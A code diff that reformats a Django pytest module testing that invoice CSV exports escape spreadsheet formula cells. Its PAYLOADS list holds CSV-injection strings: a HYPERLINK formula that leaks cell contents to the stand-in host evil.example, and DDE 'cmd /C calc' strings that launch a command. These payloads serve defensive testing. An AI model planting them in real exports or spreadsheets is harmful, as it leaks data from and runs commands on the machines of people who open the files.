@@ -2,6 +2,7 @@
 
 The attacker's text reaches an invoice through an adjustment's reason (a credit note typed
 from a ticket, an incident's cause) and the admin export through an imported hostname."""
+
 import csv
 import io
 from datetime import UTC, datetime, timedelta
@@ -15,16 +16,29 @@ from .conftest import LEDGER_DBS, make_event
 
 pytestmark = pytest.mark.django_db(databases=LEDGER_DBS)
 SEPT = datetime(2026, 9, 1, tzinfo=UTC)
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"refund")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_invoice_csv_escapes_formula_cells(acme_api, tenants, ingest, payload):
     acme = tenants[0]
     ingest([make_event(tenant_id=acme.pk, start=SEPT + timedelta(days=1))])
-    Adjustment.objects.create(kind=AdjustmentKind.MANUAL, tenant_id=acme.pk, period=SEPT.date(), amount="-12.50", reason=payload,
-                              reference=payload[:200], dedupe_key=f"csv-{payload}")
+    Adjustment.objects.create(
+        kind=AdjustmentKind.MANUAL,
+        tenant_id=acme.pk,
+        period=SEPT.date(),
+        amount="-12.50",
+        reason=payload,
+        reference=payload[:200],
+        dedupe_key=f"csv-{payload}",
+    )
     run_billing(period=SEPT.date(), finalize=False, actor="test")
     invoice = acme_api.get("/api/v1/invoices").json()["results"][0]
     rows = list(csv.reader(io.StringIO(acme_api.get(f"/api/v1/invoices/{invoice['id']}.csv").content.decode())))
